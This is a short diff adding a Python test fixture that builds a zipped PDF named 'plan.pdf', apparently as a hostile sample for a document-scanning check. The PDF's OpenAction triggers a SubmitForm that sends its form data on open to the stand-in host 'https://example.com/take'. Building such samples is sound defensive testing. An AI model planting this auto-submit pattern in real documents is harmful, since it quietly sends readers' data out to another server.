@@ -1,0 +1,13 @@
+"""A button that sends the form to a server."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from tests.unit.checks.hostile_documents import pdf
+from tests.unit.checks.hostile_zip import Item, index, write, zip_bytes
+
+
+def make(folder: Path) -> Path:
+    document = pdf("/OpenAction 4 0 R", "<< /S /SubmitForm /F (https://example.com/take) >>")
+    return write(folder, zip_bytes([index(), Item("plan.pdf", document)]))
